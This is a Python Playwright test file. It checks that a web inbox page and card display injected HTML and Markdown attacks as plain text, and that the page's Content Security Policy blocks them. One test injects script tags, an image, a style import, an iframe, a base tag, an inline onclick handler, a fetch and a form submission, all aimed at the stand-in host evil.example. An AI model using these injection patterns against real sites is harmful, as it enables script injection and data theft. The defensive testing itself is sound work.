"""What others wrote, on the page and in the card: it is read there, and runs, loads, sends and builds nothing."""

import pytest
from playwright.async_api import Browser

from beam_mcp.sandbox.world import World
from tests.browser.drawn import DRAWN, in_card, on_page, turns
from tests.browser.visiting import visiting
from tests.foreign.bodies import serve_inbox
from tests.server.paged import paged

pytestmark = pytest.mark.anyio

MARKUP = [attack for attack in DRAWN if attack.kind in {"HTML", "Markdown", "template", "turned", "unseen"}]


@pytest.mark.parametrize("script", [True, False], ids=["with script", "without"])
async def test_the_page_shows_attacks_as_text_and_does_nothing_else(browser: Browser, script: bool) -> None:  # noqa: FBT001 - a parameter of the test
    for attacks in (MARKUP, DRAWN):
        assert await on_page(browser, attacks, 0, script=script) == []


async def test_the_card_shows_attacks_as_text_and_does_nothing_else(browser: Browser) -> None:
    for attacks in (MARKUP, DRAWN):
        assert await in_card(browser, attacks, 1) == []


async def test_the_policy_of_the_page_stops_what_would_get_into_it_all_the_same(browser: Browser) -> None:
    world = World(populated=False)
    serve_inbox(world, MARKUP, turns(MARKUP, 0))
    async with paged(world) as pages, visiting(browser, pages) as visit:
        await visit.see(pages.inbox())
        stopped = await visit.page.evaluate("""async () => {
          const stopped = [];
          document.addEventListener('securitypolicyviolation', (e) => stopped.push(e.effectiveDirective));
          const put = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
          put('script', { textContent: 'window.hit = 1' });
          put('script', { src: 'https://evil.example/a.js' });
          put('img', { src: 'https://evil.example/a.png' });
          put('style', { textContent: '@import "https://evil.example/a.css"' });
          put('iframe', { src: 'https://evil.example/' });
          put('base', { href: 'https://evil.example/' });
          document.body.insertAdjacentHTML('beforeend', '<b onclick="window.hit = 1" style="color: red">x</b>');
          document.body.lastChild.click();
          await fetch('https://evil.example/').catch(() => 0);
          const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
          document.body.append(form);
          form.submit();
          for (let n = 0; n < 50 && new Set(stopped).size < 9; n++) await new Promise(requestAnimationFrame);
          return { kinds: [...new Set(stopped)].sort(), hit: String(window.hit) };
        }""")
        assert stopped["hit"] == "undefined"
        assert {"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "style-src-attr"} <= {
            *stopped["kinds"]
        }
        assert {"frame-src", "base-uri", "connect-src", "form-action"} <= {*stopped["kinds"]}
        assert [what for what in visit.strange if not what.startswith(("console:", "request: https://evil"))] == []
        visit.strange.clear()
